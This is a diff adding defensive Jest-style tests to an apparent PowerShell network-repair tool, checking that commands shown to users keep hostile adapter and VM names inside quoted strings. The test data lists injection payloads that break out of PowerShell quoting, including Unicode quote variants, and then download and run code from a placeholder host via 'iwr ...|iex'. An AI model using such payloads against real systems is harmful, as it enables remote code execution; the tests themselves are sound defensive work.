@@ -88,6 +88,8 @@ describe('PowerShell syntax (tree-sitter-powershell)', () => {
     for (const step of await stepsOf(id, SAMPLE[id] ?? {})) {
       expect(syntaxError(step.script), step.display).toBeNull();
       expect(syntaxError(buildElevatedStepScript(step.script, step.params, 'C:\\r.json'))).toBeNull();
+      // What the user is shown, and may paste, is PowerShell too.
+      expect(syntaxError(step.display), step.display).toBeNull();
     }
   });
 });
@@ -135,5 +137,45 @@ describe('hostile names reach PowerShell only as data', () => {
     const vbox = WINDOWS_FIXES.find((f) => f.id === 'vbox.add-port-forward');
     expect(vbox?.params.safeParse({ vm: 'a', nic: '9', hostPort: '1', guestPort: '2' }).success).toBe(false);
     expect(vbox?.params.safeParse({ vm: 'a', nic: '1', hostPort: '70000', guestPort: '2' }).success).toBe(false);
+  });
+});
+
+describe('the commands a user is shown (and may paste) keep hostile names inside their strings', () => {
+  /** Names that close a PowerShell single-quoted string with each quote PowerShell accepts, then run code. */
+  const QUOTES = ["'", '\u2018', '\u2019', '\u201A', '\u201B'];
+  const ATTACKS = [
+    ...QUOTES.map((quote) => `VMnet8${quote}; iwr http://x.invalid/p|iex; #`),
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile input on purpose
+    'x $(iwr http://x.invalid/p|iex) ${iex} `iex`',
+    'a"; iex "b',
+  ];
+
+  /** The commands a parsed display runs: every command name outside a string. */
+  const commandNames = (text: string): string[] =>
+    (parser.parse(text)?.rootNode.descendantsOfType('command_name') ?? []).map((n) => n?.text ?? '');
+
+  it('the check can fail: an unquoted name does run its own command', () => {
+    expect(commandNames("Enable-NetAdapter -Name 'VMnet8'; iwr x|iex; #'")).toContain('iex');
+  });
+
+  it.each(ATTACKS)('%s', async (value) => {
+    const cases: Array<[string, Record<string, string>]> = [
+      ['host.enable-adapter', { adapter: value }],
+      ['host.restart-adapter', { adapter: value }],
+      ['host.set-private-profile', { adapter: value }],
+      ['vbox.add-port-forward', { vm: value, nic: '1', hostPort: '2222', guestPort: '22' }],
+      ['vbox.add-port-forward', { vm: value, nic: '1', hostPort: '2222', guestPort: '22', running: 'false' }],
+      ['guest.new-mac', { vm: value, nic: '1', mac: '080027AABBCC' }],
+    ];
+    for (const [id, params] of cases) {
+      for (const step of await stepsOf(id, params)) {
+        expect(syntaxError(step.display), step.display).toBeNull();
+        const names = commandNames(step.display);
+        expect(
+          names.filter((n) => /^(iwr|iex|invoke-expression)$/i.test(n)),
+          step.display,
+        ).toEqual([]);
+      }
+    }
   });
 });
